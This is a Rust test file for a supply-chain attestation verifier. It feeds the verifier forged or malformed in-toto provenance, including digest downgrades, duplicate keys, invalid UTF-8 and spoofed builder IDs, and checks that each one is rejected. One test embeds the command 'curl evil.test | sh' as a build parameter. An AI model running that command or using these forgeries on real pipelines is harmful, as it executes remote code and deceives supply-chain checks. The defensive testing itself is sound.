//! Statements and predicates that say something wrong.

use acceptance::{Stage, honest, mutant};
use catenary_testkit::{
    Key, Statement, Subject, World,
    dsse::Envelope,
    provenance::{Form, V1},
    sha512_hex,
    world::subjects,
};
use serde_json::{Value, json};

/// Posts one bad item beside an honest world: refused as the table says, nothing kept, the verdict unchanged.
async fn refused(id: &str, make: impl Fn(&World) -> Vec<Vec<u8>>) {
    let stage = honest().await;
    let size = log_size(&stage).await;
    for (n, bytes) in make(&stage.world).into_iter().enumerate() {
        println!("{id} variation {n}");
        stage.submit(bytes).await.answers(id);
    }
    assert_eq!(log_size(&stage).await, size, "something was kept");
    stage.judge().await.passes();
}

async fn log_size(stage: &Stage) -> u64 {
    stage.judge().await.is(200).0["log"]["size"].as_u64().unwrap()
}

/// The golden build statement's text, changed and honestly signed.
fn build_text(world: &World, change: impl Fn(String) -> String) -> Vec<u8> {
    signed(change(world.build.statement().to_json()).into_bytes(), &world.k_ci)
}

fn signed(payload: Vec<u8>, key: &Key) -> Vec<u8> {
    Envelope::statement(payload).signed_by(key).to_bytes()
}

/// The golden build statement with other subjects.
fn with_subjects(world: &World, subjects: Vec<Subject>) -> Vec<u8> {
    let mut build = world.build.clone();
    build.subjects = subjects;
    build.statement().signed_by(&world.k_ci).to_bytes()
}

fn hex_of(world: &World) -> String {
    world.index.digest().trim_start_matches("sha256:").to_owned()
}

#[tokio::test]
async fn s01_wrong_statement_type() {
    let types = [
        "https://in-toto.io/Statement/v9",
        "",
        "https://in-toto.io/Statement/v1/",
        "https://in-toto.io/statement/v1",
    ];
    refused("S01", |world| {
        let with =
            |kind: &&str| build_text(world, |text| text.replacen("https://in-toto.io/Statement/v1", kind, 1));
        types.iter().map(with).collect()
    })
    .await;
}

#[tokio::test]
async fn s02_only_an_attestation_of_another_type_exists() {
    let _twin = honest().await;
    let stage = Stage::empty().await;
    let world = &stage.world;
    stage.post_objects(world).await;
    let scan =
        Statement::new("https://in-toto.io/attestation/vulns/v0.2", json!({"scanner": {"result": []}}))
            .with_subjects(world.build.subjects.clone());
    stage
        .post_envelopes(&[world.source_envelope(), world.push_envelope(), scan.signed_by(&world.k_ci)])
        .await;
    stage.judge().await.answers("S02");
}

#[tokio::test]
async fn s03_signed_but_unparsable_predicate() {
    refused("S03", |world| {
        let with = |predicate: Value| {
            let mut statement = world.build.statement();
            statement.predicate = Some(predicate);
            statement.signed_by(&world.k_ci).to_bytes()
        };
        vec![with(json!("text")), with(json!([])), with(json!({"buildDefinition": 7})), with(json!({}))]
    })
    .await;
}

#[tokio::test]
async fn s04_empty_subject_list() {
    refused("S04", |world| vec![with_subjects(world, vec![])]).await;
}

#[tokio::test]
async fn s06_wildcard_or_blank_digest() {
    refused("S06", |world| {
        ["*", "", "sha256:*", &"0".repeat(64)]
            .map(|value| with_subjects(world, vec![Subject::new("x", "sha256", value)]))
            .to_vec()
    })
    .await;
}

#[tokio::test]
async fn s07_digest_algorithm_downgrade() {
    let stage = mutant(|world| {
        let weak = Subject::new("x", "sha1", &"a".repeat(40))
            .and("md5", &"b".repeat(32))
            .and("gitCommit", &world.commit.oid());
        world.build.subjects = vec![weak];
    })
    .await;
    stage.judge().await.answers("S07");
}

#[tokio::test]
async fn s09_non_canonical_digest_text() {
    refused("S09", |world| {
        let hex = hex_of(world);
        let mut values = vec![
            hex.to_uppercase(),
            format!(" {hex}"),
            format!("{hex} "),
            hex[1..].to_owned(),
            format!("{hex}0"),
            format!("0x{hex}"),
        ];
        values.push(format!("sha256:{hex}"));
        let mut all: Vec<Vec<u8>> =
            values.iter().map(|v| with_subjects(world, vec![Subject::new("x", "sha256", v)])).collect();
        all.push(with_subjects(world, vec![Subject::new("x", "SHA256", &hex)]));
        all
    })
    .await;
}

#[tokio::test]
async fn s11_subject_stuffing_by_a_trusted_builder_of_another_repository() {
    let stage = mutant(|world| {
        world.build.source_uri = "git+https://git.acme.test/acme/devtool".into();
        world.build.subjects.insert(0, Subject::new("devtool", "sha256", &"d".repeat(64)));
    })
    .await;
    stage.judge().await.answers("S11");
}

#[tokio::test]
async fn s13_duplicate_keys_inside_a_signed_payload() {
    refused("S13", |world| {
        let twice = |member: &str, value: &str| {
            build_text(world, |text| format!("{{{member}:{value},{}", &text[1..]))
        };
        vec![
            twice("\"subject\"", "[{\"name\":\"evil\",\"digest\":{\"sha256\":\"00\"}}]"),
            twice("\"predicateType\"", "\"x\""),
            // The same member, spelled with an escape.
            twice("\"\\u0073ubject\"", "[]"),
        ]
    })
    .await;
}

#[tokio::test]
async fn s15_v1_predicate_type_with_v0_2_body() {
    refused("S15", |world| {
        let mut build = world.build.clone();
        build.form = Form::SlsaGithubGenerator;
        let mut statement = build.statement();
        statement.predicate_type = V1.into();
        vec![statement.signed_by(&world.k_ci).to_bytes()]
    })
    .await;
}

#[tokio::test]
async fn s16_builder_id_of_a_trusted_builder_but_not_its_signer() {
    let _twin = honest().await;
    let mut stage = Stage::empty().await;
    // Another builder is trusted too, with a key of its own: the developer's stands in for Jenkins.
    let jenkins = stage.world.k_dev.clone();
    let rule = format!(
        "      - {{id: jenkins, domain: jenkins, signer: {{key: \"{}\"}}, builderId: {{exact: \"https://jenkins.acme.test\"}}}}\n",
        jenkins.id()
    );
    let policy = stage
        .world
        .policy()
        .replace("    sources:\n", &format!("{rule}    sources:\n"))
        .replace("of: [ci]", "of: [ci, jenkins]");
    stage.apply("prod", &policy).await.is(201);
    stage.world.build.signer = jenkins;
    stage.post_world().await;
    stage.judge().await.answers("S16");
}

#[tokio::test]
async fn s17_unrecognized_external_parameters() {
    let stage = mutant(|world| {
        world.build.extra_params.insert("script".into(), json!("curl evil.test | sh"));
    })
    .await;
    stage.judge().await.answers("S17");
}

#[tokio::test]
async fn s19_no_source_in_resolved_dependencies() {
    let _twin = honest().await;
    let stage = Stage::empty().await;
    let world = &stage.world;
    let mut statement = world.build.statement();
    let predicate = statement.predicate.as_mut().unwrap();
    predicate["buildDefinition"]["resolvedDependencies"].as_array_mut().unwrap().remove(0);
    stage.post_objects(world).await;
    stage
        .post_envelopes(&[world.source_envelope(), world.push_envelope(), statement.signed_by(&world.k_ci)])
        .await;
    stage.judge().await.answers("S19");
}

#[tokio::test]
async fn s21_nul_and_lone_surrogate_strings() {
    refused("S21", |world| {
        let named = |name: &str| {
            build_text(world, |text| text.replacen("\"name\":\"", &format!("\"name\":\"{name}"), 1))
        };
        ["\\u0000", "\\ud800", "\\udc00\\ud800"].map(named).to_vec()
    })
    .await;
}

#[tokio::test]
async fn s23_invalid_utf8() {
    refused("S23", |world| {
        let overlong = |bytes: &[u8]| {
            let text = world.build.statement().to_json();
            let (head, tail) = text.split_at(text.find("registry.acme").unwrap());
            signed([head.as_bytes(), bytes, tail.as_bytes()].concat(), &world.k_ci)
        };
        vec![overlong(&[0xc0, 0xaf]), overlong(&[0xff]), overlong(&[0xed, 0xa0, 0x80])]
    })
    .await;
}

#[tokio::test]
async fn s07_a_sha512_only_subject_is_known_but_does_not_name_a_sha256_image() {
    let stage = mutant(|world| {
        let document = world.index.document().bytes;
        world.build.subjects = vec![Subject::new("x", "sha512", &sha512_hex(&document))];
    })
    .await;
    stage.judge().await.denies("BLD_NO_PROVENANCE");
}

#[tokio::test]
async fn s26_a_failed_result_after_a_passed_one() {
    let stage = Stage::empty().await;
    let world = &stage.world;
    let require = format!(
        "  require: [{{id: e2e, predicate: [test-result], signer: {{key: \"{}\"}}}}]\n",
        world.k_ci.id()
    );
    stage.apply("prod", &format!("{}{require}", world.policy())).await.is(201);
    stage.post_world().await;
    let tested = async |result: &str, run: u32, by: &Key| {
        let url = format!("https://ci.acme.test/runs/{run}");
        let statement = Statement::new(
            "https://in-toto.io/attestation/test-result/v0.1",
            json!({"result": result, "configuration": [], "url": url}),
        );
        let about = subjects(&world.resource, &world.index);
        stage.submit(statement.with_subjects(about).signed_by(by).to_bytes()).await.is(201);
    };
    tested("PASSED", 1, &world.k_ci).await;
    stage.judge().await.passes();
    tested("FAILED", 2, &world.k_mallory).await;
    stage.judge().await.passes();
    tested("FAILED", 3, &world.k_ci).await;
    stage.judge().await.answers("S26");
    tested("PASSED", 4, &world.k_mallory).await;
    stage.judge().await.answers("S26");
    tested("PASSED", 5, &world.k_ci).await;
    stage.judge().await.passes();
}
